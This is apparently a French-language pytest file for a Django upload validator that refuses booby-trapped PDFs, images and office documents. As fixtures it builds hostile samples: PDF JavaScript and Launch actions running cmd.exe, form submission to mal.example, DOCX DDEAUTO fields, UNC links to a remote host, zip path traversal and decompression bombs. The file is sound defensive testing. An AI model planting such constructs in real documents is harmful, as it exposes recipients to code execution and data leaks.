"""Ce que le corpus n'énumère pas : les détours, les limites, et le fichier ordinaire qui ressemble à un piège."""

import random
import re
import zlib

import pytest
from django.core.exceptions import ValidationError

from socle import fichiers
from tests.fabriques.fichiers import PDF, UNE_PAGE, recu
from tests.fabriques.fichiers import pdf as pdf_de
from tests.socle.corpus import archives, images, pdf

SCRIPT = b"/AA<</O<</S/JavaScript/JS%s>>>>"


def refus(nom: str, contenu: bytes) -> str:
    """La phrase de refus ; vide si le fichier est admis."""
    try:
        fichiers.controler(recu(nom, contenu))
    except ValidationError as erreur:
        return erreur.messages[0]
    return ""


# --- PDF ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("contenu", "raison"),
    [
        (pdf.avec(page=SCRIPT % b"(app.alert\\(1\\))"), "programme"),
        (pdf.avec(page=b"/AA<</O<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>"), "programme"),
        (pdf.avec(pdf.flux(b"app.alert(1)"), page=SCRIPT % b" 4 0 R"), "programme"),
        (pdf.avec(page=SCRIPT % b'(AFNumber_Format\\(2, eval\\("1"\\)\\))'), "programme"),
        (pdf.avec(page=SCRIPT % b'(AFNumber_Format\\(2\\); app.alert\\("1"\\))'), "programme"),
        (pdf.avec(page=SCRIPT % b'(AFExecuteThisScript\\("1"\\))'), "programme"),
        (pdf.avec(page=SCRIPT % (b"(AFNumber_Format\\(" + b"1" * 1900 + b"!)")), "programme"),
        (pdf.avec(page=SCRIPT % (b"(AFNumber_Format\\(" + b'"a" ' * 400 + b"!)")), "programme"),
        (pdf.avec(page=SCRIPT % (b"(AFNumber_Format\\(1" + b" " * 1900 + b"!)")), "programme"),
        (pdf.avec(b"/Launch", page=b"/AA<</O<</S 4 0 R/F(cmd.exe)>>>>"), "ouvre un programme"),
        (pdf.avec(page=b"/AA<</O<</S/GoToE/F(\\\\\\\\mal.example\\\\a)>>>>"), "ouvre un programme"),
        (pdf.avec(page=b"/AA<</O<</S/GoTo/Next[<</S/Launch/F(cmd.exe)>>]>>>>"), "ouvre un programme"),
        (pdf.avec(page=b"/AA<</O<</S/SubmitForm/F(https://mal.example)>>>>"), "envoie à un site"),
        (pdf.avec(page=b"/AA<</O<</S/ImportData/F(a.fdf)>>>>"), "lit un autre fichier"),
        (pdf.avec(catalogue=b"/AcroForm<</XFA(x)/Fields[]>>"), "XFA"),
        (pdf.avec(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>", page=b"/Annots[4 0 R]"), "objet animé"),
        (pdf.joint(b"donnees.xml", b"<h:html><h:script>alert(1)</h:script>"), "autre fichier"),
        (pdf.joint(b"donnees.txt", b"MZ\x00\x00"), "autre fichier"),
        (pdf.avec_une_reserve(zlib.compress(b"6 0 <</S/Launch>>")), "ouvre un programme"),
        (pdf.avec_une_reserve(zlib.compress(b" " * 20_000_000)), "abîmé"),
        (pdf.avec_une_reserve(zlib.compress(b" " * 5_000_000)), "démesurée"),
        (pdf.avec_une_reserve(b"6 0 <</A 1>>", b"/Filter/LZWDecode"), "abîmé"),
        (pdf.avec_une_reserve(b"6 0 <</A 1>>", b""), ""),
        (pdf_de((*UNE_PAGE, b"[" * 2000 + b"]" * 2000)), "abîmé"),
        (pdf_de((*UNE_PAGE, b"[" + b"1 " * 3_000_000 + b"]")), "démesurée"),
        (PDF[:200], "incomplet"),
        (b"%PDF-1.7\n" + b"stream\n" * 200_000 + b"%%EOF", "abîmé"),
    ],
)
def test_un_pdf_piege_est_refuse(contenu, raison):
    phrase = refus("a.pdf", contenu)
    assert (raison in phrase) if raison else not phrase, phrase


@pytest.mark.parametrize(
    "contenu",
    [
        pdf.avec(page=SCRIPT % b'(AFDate_FormatEx\\("dd/mm/yyyy"\\);)'),
        pdf.avec(page=SCRIPT % b'(AFSimple_Calculate\\("SUM", new Array\\("a", "b"\\)\\);)'),
        pdf.avec(
            b"<</Type/Annot/Subtype/Text/Contents(Le /JavaScript et /Launch)/Rect[0 0 9 9]>>", page=b"/Annots[4 0 R]"
        ),
        pdf.avec(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
        pdf.joint(b"donnees.json", '{"été": "<script>"}'.encode()),
        pdf.avec(b"<</Length 5 0 R>>\nstream\n0 0 m\nendstream", b"5", b"null", b"true", page=b"/Contents 4 0 R"),
    ],
)
def test_un_pdf_ordinaire_est_admis(contenu):
    assert not refus("a.pdf", contenu)


@pytest.mark.parametrize(("pages", "admis"), [(3, True), (4, False)])
def test_le_nombre_de_pages_est_borne(settings, pages, admis):
    settings.FICHIER_PAGES_MAX = 3
    assert refus("a.pdf", pdf.de_pages(pages)) == (
        ""
        if admis
        else "Le fichier « a.pdf » a plus de 3 pages. "
        "Scindez-le en plusieurs fichiers, ou imprimez-le dans un nouveau PDF."
    )


# --- Images ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("points", "admis"), [(2400, True), (2399, False)])
def test_la_surface_d_une_image_est_bornee(settings, points, admis):
    settings.FICHIER_PIXELS_MAX = points
    assert bool(refus("a.png", images.image("PNG", (60, 40)))) is not admis


@pytest.mark.parametrize(
    ("nom", "contenu"),
    [
        ("a.png", images.image("PNG")[:-20]),
        ("a.png", images.image("PNG")[:30]),
        ("a.png", images.image("PNG").replace(b"IDAT", b"IDAX")),
        ("a.jpg", images.image("JPEG")[:40]),
        ("a.jpg", images.image("JPEG")[:-2]),
        ("a.jpg", b"\xff\xd8\xff" + b"\xff" * 5000),
        ("a.jpg", b"\xff\xd8\xff\xd9"),
    ],
)
def test_une_image_incomplete_est_refusee(nom, contenu):
    assert "incomplète ou abîmée" in refus(nom, contenu)


@pytest.mark.parametrize("taille", [(1, 1), (7, 900)])
def test_une_toute_petite_image_est_admise(taille):
    assert not refus("a.jpg", images.image("JPEG", taille))


@pytest.mark.parametrize(
    "suite", [b"\x00\x00\x00\x18ftypmp42" + bytes(99), b"\x00\x00\x01\x0aSEFH" + b"x" * 9 + b"SEFT", bytes(9)]
)
def test_ce_qu_un_telephone_ajoute_a_une_photo_est_admis(suite):
    assert not refus("a.jpg", images.image("JPEG") + suite)


# --- Bureautique ----------------------------------------------------------------------------------------------------


def relie(type_: str, cible: str) -> bytes:
    return archives.docx({"word/_rels/document.xml.rels": archives.relations((type_, cible, True))})


# Incompressible, et qui s'arrête à six signes d'un mégaoctet : ce qui suit est à cheval sur deux lectures.
LONG_TEXTE = "<x>" + random.Random(2026).randbytes(524_283).hex() + " "
UN_CHAMP = '<w:p><w:r><w:instrText xml:space="preserve"> %s </w:instrText></w:r></w:p>'


def ecrit(corps: str) -> bytes:
    return archives.archive(archives.entrees_docx(corps))


def libre(corps: str) -> bytes:
    return archives.opendocument("text", corps)


@pytest.mark.parametrize(
    ("nom", "contenu", "raison"),
    [
        ("a.docx", relie("oleObject", "\\\\mal.example\\a"), "autre ordinateur"),
        ("a.docx", relie("image", "//mal.example/a.png"), "autre ordinateur"),
        ("a.docx", relie("attachedTemplate", "file:///\\\\mal.example\\a.dotm"), "autre ordinateur"),
        ("a.docx", relie("attachedTemplate", "file://mal.example/a.dotm"), "autre ordinateur"),
        ("a.docx", ecrit(UN_CHAMP % "DDEAUTO c:\\\\cmd.exe"), "lance un programme"),
        ("a.docx", archives.docx({"../../a.xml": "<x/>"}), "abîmé"),
        ("a.docx", archives.docx({"/etc/a.xml": "<x/>"}), "abîmé"),
        ("a.docx", archives.docx({"word\\..\\a.xml": "<x/>"}), "abîmé"),
        ("a.docx", archives.docx({"word/a.xml": "<!DOCTYPE x><x/>".encode("utf-16")}), "définitions"),
        ("a.docx", archives.docx({"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><x/>'}), "codage inattendu"),
        ("a.docx", archives.docx({"word/a.xml": "<!DOCTYPE x><x/>".encode("cp500")}), "codage inattendu"),
        ("a.docx", archives.docx({"word/_rels/a.xml.rels": "<x>"}), "abîmé"),
        ("a.docx", archives.docx({"word/activeX/activeX1.xml": "<x/>"}), "OLE ou ActiveX"),
        ("a.docx", archives.docx({"word/media/image1.png": b"MZ\x90"}), "autre fichier"),
        ("a.docx", archives.docx({"word/afchunk.mht": "x"}), "autre fichier"),
        (
            "a.docx",
            archives.docx({"word/a.xml": LONG_TEXTE + "<!DOCTYPE x>"}),
            "définitions",
        ),
        ("a.docx", archives.docx() + b"<script>", "abîmé"),
        ("a.docx", archives.docx()[:-40], "abîmé"),
        ("a.docx", archives.docx({"[Content_Types].xml": "<x ContentType='a.macroEnabled.main+xml'/>"}), "macros"),
        ("a.docx", b"\xd0\xcf\x11\xe0" + bytes(600), "ancien format"),
        ("a.docx", archives.xlsx(), "n'a pas le contenu"),
        ("a.odt", archives.opendocument("spreadsheet"), "n'a pas le contenu"),
        ("a.xlsx", archives.xlsx_avec({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
        ("a.xlsx", archives.xlsx_avec({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), "lance un programme"),
        ("a.odt", archives.opendocument("text", entrees={"Basic/Standard/a.xml": "<x/>"}), "macros"),
        ("a.odt", archives.opendocument("text", entrees={"Object 1": b"\xd0\xcf\x11\xe0"}), "autre fichier"),
        ("a.odt", libre('<draw:image xlink:href="https://mal.example/a.png"/>'), "autre ordinateur"),
        ("a.odt", libre('<text:a xlink:href="vnd.sun.star.script:a.py$b"/>'), "lance un programme"),
        (
            "a.ods",
            archives.opendocument("spreadsheet", entrees={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
            "mot de passe",
        ),
    ],
)
def test_un_document_piege_est_refuse(nom, contenu, raison):
    assert raison in refus(nom, contenu)


@pytest.mark.parametrize(
    ("nom", "contenu"),
    [
        ("a.docx", relie("attachedTemplate", "file:///home/centre/Mod%C3%A8les/lettre.dotx")),
        ("a.docx", relie("image", "file:///C:\\photos\\a.png")),
        ("a.docx", relie("hyperlink", "\\\\serveur\\partage\\a.pdf")),
        ("a.docx", ecrit(UN_CHAMP % 'HYPERLINK "https://www.dde.example/DDE"')),
        ("a.docx", ecrit("<w:p><w:r><w:t>La DDE &amp; &lt;!DOCTYPE&gt; DDEAUTO</w:t></w:r></w:p>")),
        ("a.xlsx", archives.xlsx_avec({"customXml/item1.xml": '<?xml encoding="utf-16"?><x/>'.encode("utf-16")})),
        ("a.xlsx", archives.xlsx_avec({"xl/printerSettings/printerSettings1.bin": bytes(99)})),
        ("a.xlsx", archives.xlsx_avec({"xl/sheet9.xml": "<row/>" * 200_000})),
        ("a.odt", libre('<draw:a xlink:href="https://www.caf.fr/"><draw:image xlink:href="Pictures/a.png"/></draw:a>')),
    ],
)
def test_un_document_ordinaire_est_admis(nom, contenu):
    assert not refus(nom, contenu)


# --- Sans détour ----------------------------------------------------------------------------------------------------


def test_une_bibliotheque_qui_echoue_refuse_le_fichier_en_une_phrase(caplog):
    """Quatre cents fichiers abîmés au hasard : chacun est admis ou refusé, jamais une erreur."""
    hasard = random.Random(2026)
    bons = {
        "a.pdf": pdf.formulaire(),
        "a.jpg": images.image("JPEG"),
        "a.png": images.image("PNG"),
        "a.docx": archives.docx(),
    }
    for nom, bon in bons.items():
        for _ in range(100):
            contenu = bytearray(bon)
            for _ in range(hasard.randint(1, 20)):
                contenu[hasard.randrange(8, len(contenu))] = hasard.randrange(256)
            phrase = refus(nom, bytes(contenu))
            assert not phrase or re.match(rf"Le fichier « {nom} » .+\. .+\.$", phrase)
    assert "Traceback" not in caplog.text
